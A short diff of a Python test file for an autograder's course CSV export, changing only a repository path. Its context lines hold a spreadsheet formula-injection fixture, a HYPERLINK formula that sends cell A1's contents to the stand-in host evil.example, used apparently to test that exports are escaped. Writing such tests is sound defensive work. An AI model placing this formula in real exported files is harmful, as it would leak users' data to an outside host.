@@ -13,7 +13,7 @@ import pytest
 
 from autograder.export import CourseCsvExportPlugin, cell, export
 
-REPO = Path(__file__).resolve().parent.parent
+REPO = Path(__file__).resolve().parents[2]
 LESSON = "01_seq2seq_bottleneck"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 # (student id, first name, last name, email): commas, quotes, newlines and every formula start
